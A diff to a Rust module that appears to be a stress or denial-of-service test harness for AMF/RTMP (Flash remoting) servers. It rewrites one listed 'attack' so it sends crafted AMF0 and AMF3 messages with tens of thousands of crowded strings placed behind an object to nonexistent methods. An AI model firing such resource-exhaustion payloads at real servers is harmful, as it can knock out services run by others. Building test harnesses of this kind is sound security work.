@@ -9,7 +9,7 @@ pub(super) fn attacks() -> Vec<Attack> {
         attack!("1a crowded strings over HTTP", crowded_over_http),
         attack!("1a crowded strings over RTMP", crowded_over_rtmp),
         attack!("1b crowded strings to no method, HTTP", no_method_over_http),
-        attack!("1b one string to no method, AMF0 client", no_method_over_rtmp),
+        attack!("1b strings behind an object to no method, RTMP", no_method_over_rtmp),
         attack!("1c Flex call, ArrayCollection of arguments", array_collection),
         attack!("1c Flex call, ArrayCollection to no method", array_collection_to_no_method),
         attack!("1d 100,000 references to one string, AMF0 client", string_to_amf0),
@@ -35,10 +35,13 @@ async fn no_method_over_http(target: Target) {
 }
 
 async fn no_method_over_rtmp(target: Target) {
-    let call = command_switched("no.where", &crowd(0, 30_000, 1, 19_000));
-    target.call_rtmp(Encoding::Amf0, &call).await;
-    let call = command_switched("siege.nothing", &crowd(0, 30_000, 1, 19_000));
-    target.call_rtmp(Encoding::Amf0, &call).await;
+    // An object stands before the arguments, so they may refer to it and do not stand alone.
+    let arguments = [b"\x03\0\0\x09\x11", &crowd(0, 30_000, 1, 19_000)[..]].concat();
+    for (name, encoding) in [("no.where", Encoding::Amf0), ("siege.nothing", Encoding::Amf0)] {
+        target.call_rtmp(encoding, &wire::command_with_object(name, 2.0, &arguments)).await;
+    }
+    let arguments = [b"\x03\0\0\x09\x11", &crowd(0, 3_600, 18, 62_000)[..]].concat();
+    target.call_rtmp(Encoding::Amf3, &wire::command_with_object("no.where", 2.0, &arguments)).await;
 }
 
 fn flex_call(operation: &str) -> Vec<u8> {
